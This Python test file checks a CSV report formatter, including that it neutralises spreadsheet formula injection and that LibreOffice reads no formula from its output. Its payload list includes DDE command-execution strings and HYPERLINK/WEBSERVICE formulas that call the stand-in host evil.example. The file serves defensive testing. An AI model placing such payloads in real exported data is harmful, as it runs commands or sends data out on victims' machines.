"""The table of findings: a row each, numbers that are numbers, and text that no spreadsheet works out."""

import csv
import os
import shutil
import signal
import subprocess
from dataclasses import replace
from fractions import Fraction
from io import StringIO
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest

from hostile_texts import TEXTS
from sample_report import (
    HOSTILE,
    captured_report,
    empty_report,
    incomplete_report,
    sample_report,
    waived_report,
)
from seedcorn.band import Band
from seedcorn.format import Look
from seedcorn.formats._cells import cell, table
from seedcorn.formats.csv import FORMAT
from seedcorn.model import Interval
from seedcorn.report import Report, Unit
from seedcorn.words import plain
from trying_texts import try_each

SECONDS = 120
OFFICE = shutil.which("soffice") or shutil.which("libreoffice")
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '"=1+1"',
    "'=1+1",
    '" =1+1',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹢1",
    "﹣1",
    "﹦1+1",
    "﹫A1",
    "\u22121",
    "\u200b=1+1",
    "|calc!A1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"1")',
)
TORN = '","=1+1'
TEXT_COLUMNS = ("rule", "scope", "subject", "name", "message", "evidence", "next_step", "owner")
OF_OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:%s:1.0}%s"


def rows(report: Report) -> list[dict[str, str]]:
    text = FORMAT.render(report, Look())
    assert "\r" not in text
    return list(csv.DictReader(StringIO(text), strict=True))


def test_a_row_a_finding_in_their_order_and_all_of_one_width() -> None:
    report = captured_report()
    found = rows(report)
    assert [row["rule"] for row in found] == [finding.rule for finding in report.findings]
    assert [row["fingerprint"] for row in found] == [finding.fingerprint for finding in report.findings]
    assert all(None not in row and None not in row.values() for row in found)
    assert rows(replace(empty_report(), findings=())) == []


def test_numbers_are_decimals_with_a_dot_and_exact_beside_that() -> None:
    first = rows(captured_report())[0]
    assert (first["measured"], first["low"], first["high"], first["limit"]) == (
        "0.759843",
        "0.316393",
        "0.9",
        "0.3",
    )
    exact = {
        name: Fraction(int(first[f"{name}_numerator"]), int(first[f"{name}_denominator"]))
        for name in ("measured", "low", "high", "limit")
    }
    measured = captured_report().findings[0].measured
    assert measured is not None
    assert exact == {
        "measured": measured.value,
        "low": measured.low,
        "high": measured.high,
        "limit": Fraction(3, 10),
    }
    assert (first["subject"], first["name"], first["verdict"], first["level"]) == (
        "google",
        "Google",
        "fail",
        "error",
    )


def test_a_number_below_nothing_stays_a_number() -> None:
    lost = replace(
        captured_report().findings[0],
        measured=Interval.exactly(Fraction(-1, 3)),
        limit=Fraction(-1, 2),
        unit=Unit.PERCENTAGE_POINTS,
    )
    row = rows(replace(captured_report(), findings=(lost,)))[0]
    assert (row["measured"], row["limit"], row["unit"]) == ("-0.333333", "-0.5", "percentage points")
    assert (row["measured_numerator"], row["measured_denominator"]) == ("-1", "3")


def test_what_was_not_measured_is_empty_and_not_nothing() -> None:
    row = next(row for row in rows(captured_report()) if row["verdict"] == "notApplicable")
    assert {row[name] for name in row if name.startswith(("measured", "low", "high", "limit"))} == {""}


def test_of_a_range_its_ends_alone_are_told() -> None:
    band = Band(Fraction(3, 5), Fraction(4, 5))
    shown = replace(captured_report().findings[0], measured=Interval(value=band, low=band, high=band))
    row = rows(replace(captured_report(), findings=(shown,), public=True, banded=True))[0]
    assert (row["measured"], row["low"], row["high"]) == ("", "0.6", "0.8")
    assert (row["measured_numerator"], row["low_numerator"], row["high_denominator"]) == ("", "3", "5")


def test_what_is_let_be_says_by_whom_and_until_when() -> None:
    told = [(row["accepted_by"], row["owner"], row["until"]) for row in rows(waived_report())]
    assert told == [("waiver", "'@product-lead", "2027-03-31"), ("baseline", "", "")]


def test_every_row_says_whether_all_was_read() -> None:
    assert {row["complete"] for row in rows(captured_report())} == {"yes"}
    finding = captured_report().findings[0]
    assert {row["complete"] for row in rows(replace(incomplete_report(), findings=(finding,)))} == {"no"}


@pytest.mark.parametrize("text", FORMULAS)
def test_what_could_be_a_formula_has_an_apostrophe_before_it(text: str) -> None:
    assert cell(text) == f"'{plain(text)}"


@pytest.mark.parametrize(
    "text", ["Acme", "a=b", "x+y", "3-4", "株式会社シードコーン", "", "(none)", "#12", "1 = 1"]
)
def test_other_text_is_as_it_is(text: str) -> None:
    assert cell(text) == text


@pytest.mark.no_cover
def test_no_row_is_torn_and_no_cell_begins_a_formula() -> None:
    try_each(check_row, (*HOSTILE, *FORMULAS, *TEXTS, TORN))


def check_row(name: str) -> None:
    first = captured_report().findings[0]
    told = replace(
        first, subject=name, scope=name, message=name, remedy=name, evidence=(name,), accepted=None, rule=name
    )
    report = replace(captured_report(), findings=(told, first))
    row, after = rows(report)
    assert after["rule"] == first.rule
    for column in TEXT_COLUMNS:
        assert "\n" not in row[column]
        assert not row[column].lstrip('" `').startswith(tuple("=+-@|\u2212＝＋－＠﹢﹣﹦﹫\t\r"))


def test_hostile_names_stay_in_their_column() -> None:
    found = rows(sample_report())
    assert len(found) == len(sample_report().findings)
    assert all(row["complete"] in ("yes", "no") for row in found)


def converted(folder: Path, text: str) -> list[list[ET.Element]]:
    """The cells of a table as LibreOffice reads it, as it keeps them in its flat XML."""
    (folder / "told.csv").write_text(text, encoding="utf-8", newline="")
    assert OFFICE is not None
    # 44: commas; 34: quotes; 76: UTF-8; from the first line on; everything as it is recognised by default.
    command = [OFFICE, "--headless", "--norestore", f"-env:UserInstallation={(folder / 'profile').as_uri()}"]
    command += ["--infilter=CSV:44,34,76,1", "--convert-to", "fods", "--outdir", str(folder)]
    with subprocess.Popen(
        [*command, str(folder / "told.csv")],
        env={"HOME": str(folder), "PATH": os.environ["PATH"]},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    ) as office:
        try:
            office.wait(SECONDS)
        finally:
            if office.poll() is None:
                os.killpg(office.pid, signal.SIGKILL)
    tree = ET.parse(folder / "told.fods")  # noqa: S314 - our own converter wrote it
    row, column = OF_OFFICE % ("table", "table-row"), OF_OFFICE % ("table", "table-cell")
    return [list(one.iter(column)) for one in tree.iter(row)]


@pytest.mark.skipif(OFFICE is None, reason="LibreOffice is not installed")
def test_a_spreadsheet_finds_no_formula_and_every_text_as_it_was_written(tmp_path: Path) -> None:
    texts = [said for said in map(cell, (*FORMULAS, *HOSTILE, *TEXTS, TORN)) if said]
    written = table(("text", "number"), [(text, "-0.25") for text in texts])
    head, *found = converted(tmp_path, written)
    assert len(head) >= 2
    assert len(found) >= len(texts)
    texts = [text for text, _ in list(csv.reader(StringIO(written)))[1:]]
    kind, formula, number = (
        OF_OFFICE % each for each in (("office", "value-type"), ("table", "formula"), ("office", "value"))
    )
    for text, cells in zip(texts, found, strict=False):
        assert [each.get(formula) for each in cells] == [None] * len(cells)
        shown = "".join(cells[0].itertext())
        if cells[0].get(kind) == "string":
            assert " ".join(shown.split()) == " ".join(text.split())
        assert (cells[1].get(kind), cells[1].get(number)) == ("float", "-0.25")
    assert sum(cells[0].get(kind) == "string" for cells in found) > len(texts) * 9 / 10
